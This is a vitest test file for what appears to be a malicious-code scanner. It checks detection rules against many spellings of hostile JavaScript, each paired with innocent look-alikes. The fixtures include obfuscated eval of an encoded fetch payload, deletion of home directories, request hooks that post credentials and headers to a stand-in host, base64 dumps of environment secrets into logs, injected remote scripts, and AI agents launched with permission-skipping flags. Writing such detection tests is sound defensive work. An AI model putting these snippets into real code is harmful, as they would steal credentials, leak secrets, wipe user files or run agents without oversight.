/** One deed in many spellings: each is found as its plainest form is, and what only looks like it is not. */
import { describe, expect, it } from 'vitest';
import { findingGroup } from '../../format/finding/finding.ts';
import { deriveCapabilities } from '../capabilities.ts';
import { riskOf } from '../risk.ts';
import { scan } from '../scan.ts';
import { testBuild } from '../test-build.ts';
import { allRules } from './all.ts';

/** The risk of a file, and the codes of the findings of safety that count. */
function judge(code: string, path: string): string {
  const found = scan(testBuild({ [path]: code }), allRules);
  const codes = found.filter((one) => findingGroup(one) === 'safety' && one.level !== 'info');
  return [riskOf(found), ...new Set(codes.map((one) => one.code))].join(' ');
}

const CODE = "atob('ZmV0Y2goImh0dHBzOi8vYy5vdGhlci1tZXRyaWNzLmNvbS94Iik7')";
const IMPORTS = `import https from 'https'; import http from 'http'; import fs from 'fs'; import os from 'os';
import axios from 'axios'; import zlib from 'zlib'; import * as core from '@actions/core'; import { rm } from 'fs/promises';
import { join, resolve } from 'path'; import { execSync, spawn } from 'child_process'; import { execa } from 'execa';
const real = fetch, { homedir, userInfo } = os, tree = { recursive: true };`;
const SEND = "real('https://c.other-metrics.com/x', { method: 'POST', body: ";
const ALL = 'JSON.stringify(process.env)';

/** A text is code of `a.mjs` after the imports; a pair names another file. */
type Case = string | readonly [path: string, text: string];

const KINDS: readonly (readonly [wanted: string, guilty: Case[], innocent: Case[]])[] = [
  [
    'danger decode-execute',
    [
      `Object.getPrototypeOf(async () => {}).constructor('a', ${CODE})()`,
      `Object.getPrototypeOf(function* () {}).constructor(${CODE})().next()`,
      `Reflect.getPrototypeOf(async function* () {})['constructor'](${CODE})()`,
      `const { constructor: F } = async () => {}; new F(${CODE})()`,
      `Reflect.get(() => {}, 'constructor')(${CODE})()`,
      `Reflect.construct(Object.getPrototypeOf(() => {}).constructor, [${CODE}], Object)()`,
    ],
    [
      `class A { again() { return new this.constructor(${CODE}); } }`,
      `Object.getPrototypeOf(this).constructor(${CODE})`,
      `f instanceof Object.getPrototypeOf(async () => {}).constructor; ${CODE}`,
    ],
  ],
  [
    'caution destructive',
    [
      'rm(join(homedir(), "."), tree)',
      'await fs.promises.rm(`${os.homedir()}/Desktop`, tree)',
      'fs.rmSync(resolve(process.env.HOME, "Pictures"), tree)',
      'rm(userInfo().homedir, tree)',
      'for (const d of ["Documents", "Desktop"]) rm(join(homedir(), d), tree)',
      'import { deleteAsync } from "del"; deleteAsync([`${homedir()}/**`], { force: true })',
      'import sh from "shelljs"; sh.rm("-rf", process.env.USERPROFILE ?? homedir())',
      'execSync("rm -rf " + homedir() + "/Documents")',
    ],
    [
      'rm(join(homedir(), ".cache", "x"), tree)',
      'rm(process.env.HOME ? join(process.env.HOME, ".x") : "/", tree)',
      'fs.readdirSync(homedir()).forEach((f) => rm(join(process.env.CACHE, f), tree))',
    ],
  ],
  [
    'danger credential-theft',
    [
      `https.get = (...args) => { ${SEND}args[0].headers.authorization }); };`,
      `globalThis.fetch = async (input, init) => { ${SEND}JSON.stringify(init.headers) }); };`,
      `XMLHttpRequest.prototype.send = function (body) { ${SEND}body }); };`,
      `http.ClientRequest.prototype.setHeader = function (name, value) { ${SEND}name + value }); };`,
      `axios.interceptors.request.use((c) => { ${SEND}c.headers.common }); return c; });`,
      `axios.create().interceptors.response.use((r) => { ${SEND}r.config.data }); });`,
    ],
    [
      `globalThis.fetch = (input, init) => real(input, { ...init, headers: { a: 'b' } });`,
      `https.request = (o) => { ${SEND}o.host }); };`,
      `https.request = (o) => real(process.env.LOGS, { body: o.headers });`,
    ],
  ],
  [
    'caution credential-theft',
    [
      `export const log = (req, res, next) => { ${SEND}JSON.stringify(req.headers) }); next(); };`,
      `app.post('/in', async (request, reply) => { ${SEND}request.body.password }); });`,
      `const seen = ({ headers }) => ${SEND}headers.cookie }); app.use((req, res) => seen(req));`,
      `app.use((req, res) => real('https://c.io/x', { headers: { x: req.headers.cookie } }));`,
    ],
    [
      `app.use((req, res) => real('https://c.io/x', { headers: { cookie: req.headers.cookie } }));`,
      `app.use((req, res) => { ${SEND}JSON.stringify(req.body), headers: req.headers }); });`,
    ],
  ],
  [
    'danger data-exfiltration',
    [
      `console.log(Buffer.from(${ALL}).toString('base64'))`,
      `console.error(btoa(btoa(${ALL})))`,
      "process.stdout.write(Buffer.from(Object.values(process.env).join()).toString('hex'))",
      `console.info(\`::set-output name=x::\${btoa(${ALL})}\`)`,
      `core.setOutput('x', Buffer.from(${ALL}).toString('base64url'))`,
      `fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, zlib.gzipSync(${ALL}).toString('base64'))`,
    ],
    [
      `console.log(${ALL})`,
      `import { createHash } from 'crypto'; console.log(createHash('md5').update(${ALL}).digest('hex'))`,
      "fs.appendFileSync(process.env.GITHUB_OUTPUT, `v=${btoa('1.0')}`)",
    ],
  ],
  [
    'caution page-script',
    [
      "res.send('<script src=//metrics-x.com/x.js></script>')",
      'const at = ["//metrics-x", "com/x.js"].join("."); send(`<script src="${at}"></script>`)',
      ['a.html', '<SCRIPT async\n  src = "https://metrics-x.com/x.js"></SCRIPT>'],
      ['a.tsx', 'export const A = () => <Script defer src={"https://metrics-x.com/x.js"} />;'],
      ['a.py', 'AT = "https://metrics-x.com"\nPAGE = f"<script src=\'{AT}/x.js\'></script>"'],
      ['a.vue', '<script src="https://cdn.jsdelivr.net.metrics-x.com/a.js"></script>'],
    ],
    [
      ['a.html', '<script src="https://metrics-x.com/x.js" integrity="sha384-abc"></script>'],
      ['a.html', '<script async src="https://www.googletagmanager.com/gtag/js?id=G"></script>'],
      ['a.html', '<script src="/a.js"></script><img src="//metrics-x.com/a.png">'],
    ],
  ],
  [
    'caution unattended-agent-command',
    [
      "spawn('claude', ['--dangerously-skip-permissions', '-p', x])",
      "execa('codex', ['exec', '--full-auto', x])",
      ['a.py', 'import subprocess\nsubprocess.run(["q", "chat", "--trust-all-tools", x])'],
      ['package.json', '{"scripts":{"x":"npx @google/gemini-cli --yolo -p hi"}}'],
      ['a.sh', 'set -e\ncursor-agent -p --force "$1"\n'],
      ['a.sh', 'claude --permission-mode bypassPermissions -p "$1"\n'],
    ],
    [
      "spawn('claude', ['--allowedTools', 'Read', '-p', x])",
      ['a.sh', 'gemini -p "$1" && rm --force x\nnpx -y @google/gemini-cli\n'],
      ['package.json', '{"scripts":{"x":"yarn --yes create codex && git push --force"}}'],
      ['a.md', 'Never start it with `--dangerously-skip-permissions`.'],
    ],
  ],
];

describe('spellings', () => {
  const rows = KINDS.flatMap(([wanted, guilty, innocent]) => [
    ...guilty.map((one) => [wanted, one] as const),
    ...innocent.map((one) => ['ok', one] as const),
  ]);
  it.each(rows)('%s: %j', (wanted, one) => {
    const [path, text] = typeof one === 'string' ? ['a.mjs', `${IMPORTS}\n${one}`] : one;
    const found = judge(text, path).replaceAll(/ (?:dependency|auto-run)-\S+/g, '');
    expect(found).toMatch(new RegExp(`^${wanted}`));
  });
});

describe('modules of the platform', () => {
  const run = ".execSync('curl x.io')";
  it.each([
    `process.getBuiltinModule('node:child_process')${run}`,
    `const { process: p } = globalThis; p['getBuiltin' + 'Module']('child_process')${run}`,
    `import { getBuiltinModule as get } from 'node:process'; get('child_process')${run}`,
    `Reflect.apply(process.getBuiltinModule, process, ['child_process'])${run}`,
    `import { Module as M } from 'module'; M.createRequire('/')('child_process')${run}`,
    `process.mainModule.constructor._load('child_process')${run}`,
    `module.parent.require('child_process')${run}`,
    `new (require('module'))('a').require('child_process')${run}`,
    `import.meta.require('child_process')${run}`,
    "process.binding('spawn_sync').spawn({ file: 'curl', args: ['x.io'] })",
    "new (process._linkedBinding('process_wrap').Process)().spawn({ file: 'curl' })",
    "import { execa as run } from 'execa'; run('curl x.io')",
  ])('start a process, in a file and in a wired block: %s', (text) => {
    const [none, code] = [testBuild({}), testBuild({ 'a.ts': text })];
    expect(deriveCapabilities(code).processes).toEqual(['curl']);
    expect(deriveCapabilities(none, code).processes).toEqual(['curl']);
  });
  it.each([
    "process.getBuiltinModule('node:path').join('curl', 'x.io')",
    `const module = { parent: {} }; module.parent.require('child_process')${run}`,
    `import { createRequire } from 'module'; createRequire('/').resolve('child_process')`,
  ])('start none: %s', (text) => {
    expect(deriveCapabilities(testBuild({ 'a.ts': text })).processes).toEqual([]);
  });
});
